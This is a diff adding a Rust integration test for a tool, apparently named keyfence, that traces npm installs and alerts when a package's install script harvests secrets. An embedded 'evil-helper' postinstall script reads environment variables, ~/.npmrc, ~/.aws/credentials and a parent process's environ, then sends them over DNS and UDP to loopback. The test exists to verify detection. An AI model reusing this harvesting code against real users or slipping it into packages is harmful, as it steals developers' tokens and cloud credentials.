@@ -1,0 +1,155 @@
+//! `run --trace` with real npm: two local package tarballs built in the test, installed from
+//! disk. The "evil" one's postinstall reads its environment, ~/.npmrc, ~/.aws/credentials and
+//! its parent's /proc/PID/environ, looks up a name through DNS and sends what it found over UDP
+//! (all on loopback); the benign one only writes a file. The trace must name the evil package
+//! and what it did, raise the canary alert, and say nothing of the benign one beyond its exec.
+
+mod common;
+use common::*;
+use std::path::Path;
+use std::process::Command;
+
+const EVIL: &str = r#"
+const fs = require("fs"), os = require("os"), dgram = require("dgram");
+let loot = JSON.stringify(process.env);
+for (const f of [".npmrc", ".aws/credentials"]) {
+  try { loot += fs.readFileSync(os.homedir() + "/" + f, "utf8"); } catch (e) {}
+}
+try { loot += fs.readFileSync("/proc/" + process.ppid + "/environ", "utf8"); } catch (e) {}
+const s = dgram.createSocket("udp4");
+const q = Buffer.concat([Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]),
+  ...["k3y", "exfil", "example"].map(l => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)])),
+  Buffer.from([0, 0, 1, 0, 1])]);
+s.send(q, 53, "127.0.0.1", () => s.send(Buffer.from(loot), 9, "127.0.0.1", () => s.close()));
+"#;
+
+fn package(dir: &Path, name: &str, postinstall: &str, script: &str) -> std::path::PathBuf {
+    let src = dir.join(name);
+    std::fs::create_dir_all(&src).unwrap();
+    std::fs::write(
+        src.join("package.json"),
+        format!(
+            r#"{{"name": "{name}", "version": "1.0.0", "scripts": {{"postinstall": "{postinstall}"}}}}"#
+        ),
+    )
+    .unwrap();
+    std::fs::write(src.join("install.js"), script).unwrap();
+    let out = Command::new("npm")
+        .args(["pack", "--silent", "--pack-destination"])
+        .arg(dir)
+        .current_dir(&src)
+        .env("npm_config_cache", dir.join("npm-cache"))
+        .output()
+        .expect("npm pack");
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    dir.join(format!("{name}-1.0.0.tgz"))
+}
+
+#[test]
+fn trace_names_the_package_that_harvests_and_alerts_on_the_canary() {
+    if Command::new("npm").arg("--version").output().is_err() {
+        panic!("npm is needed for this test (.ci/run installs it)");
+    }
+    let mut fx = Fixture::new();
+    let key = fx.key("anthropic");
+    let npm_token = fx.key("npm");
+    fx.home_file(
+        ".npmrc",
+        &format!("//registry.npmjs.org/:_authToken={npm_token}\n"),
+    );
+    let pkgs = fx.dir.path().join("pkgs");
+    let evil = package(&pkgs, "evil-helper", "node install.js", EVIL);
+    let benign = package(
+        &pkgs,
+        "benign-helper",
+        "node install.js",
+        "require('fs').writeFileSync('built.txt', 'ok');",
+    );
+    fx.project_file("package.json", r#"{"name": "app", "version": "1.0.0"}"#);
+    let trace = fx.dir.path().join("trace.jsonl");
+    let trace_arg = format!("--trace={}", trace.display());
+    let cache = pkgs.join("npm-cache");
+    let r = fx.run(
+        &[
+            "run",
+            "--canary",
+            &trace_arg,
+            "--",
+            "npm",
+            "install",
+            "--offline",
+            "--no-audit",
+            "--no-fund",
+            "--foreground-scripts",
+            evil.to_str().unwrap(),
+            benign.to_str().unwrap(),
+        ],
+        &[
+            ("ANTHROPIC_API_KEY", &key),
+            ("npm_config_cache", cache.to_str().unwrap()),
+        ],
+    );
+    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
+    let events: Vec<serde_json::Value> = std::fs::read_to_string(&trace)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    let of = |group: &str, kind: &str| -> Vec<&serde_json::Value> {
+        events
+            .iter()
+            .filter(|e| e["event"] == kind && e["group"] == group)
+            .collect()
+    };
+    let evil_group = "evil-helper@1.0.0 postinstall";
+    let opened: Vec<String> = of(evil_group, "open")
+        .iter()
+        .map(|e| e["path"].as_str().unwrap().to_string())
+        .collect();
+    assert!(opened.iter().any(|p| p.ends_with("/.npmrc")), "{opened:?}");
+    assert!(opened.iter().any(|p| p.ends_with("/environ")), "{opened:?}");
+    assert!(
+        of(evil_group, "dns")
+            .iter()
+            .any(|e| e["name"] == "k3y.exfil.example"),
+        "{events:?}"
+    );
+    assert!(
+        of(evil_group, "secret-sent")
+            .iter()
+            .any(|e| e["what"] == "the canary for ANTHROPIC_API_KEY"
+                && e["destination"] == "127.0.0.1:9"),
+        "{events:?}"
+    );
+    // The benign package ran, and did nothing the trace reports beyond starting.
+    let benign_group = "benign-helper@1.0.0 postinstall";
+    assert!(!of(benign_group, "exec").is_empty(), "{events:?}");
+    for kind in ["open", "dns", "connect", "secret-sent"] {
+        assert!(of(benign_group, kind).is_empty(), "{kind}: {events:?}");
+    }
+    // The summary on stderr names the package; the alert is there.
+    assert!(
+        r.stderr.contains("ALERT: evil-helper@1.0.0 postinstall"),
+        "{}",
+        r.stderr
+    );
+    assert!(r.stderr.contains("read ~/.npmrc"), "{}", r.stderr);
+    let ours: String = r
+        .stderr
+        .lines()
+        .filter(|l| l.starts_with("keyfence: trace:"))
+        .collect();
+    assert!(!ours.contains("benign-helper"), "{ours}");
+    // Neither the real key nor any planted value is in the trace file.
+    let text = std::fs::read_to_string(&trace).unwrap();
+    for planted in &fx.planted {
+        assert!(
+            !text.contains(planted.as_str()),
+            "a planted value is in the trace"
+        );
+    }
+}
